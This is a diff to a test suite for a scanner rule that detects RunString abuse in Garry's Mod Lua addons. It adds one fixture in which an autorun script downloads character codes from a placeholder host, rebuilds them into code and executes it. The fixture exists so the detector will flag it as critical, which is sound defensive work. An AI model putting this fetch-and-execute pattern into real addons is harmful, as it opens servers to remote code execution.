@@ -39,6 +39,13 @@ describe('runstring', () => {
       expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
     }
   });
+  it('a download of character codes, made into code', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'http.Fetch("https://a.invalid/n", function(b) local t = {} for n in b:gmatch("%d+") do t[#t + 1] = tonumber(n) end RunString(string.char(unpack(t))) end)',
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
   it('version checker parsing a number', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua':
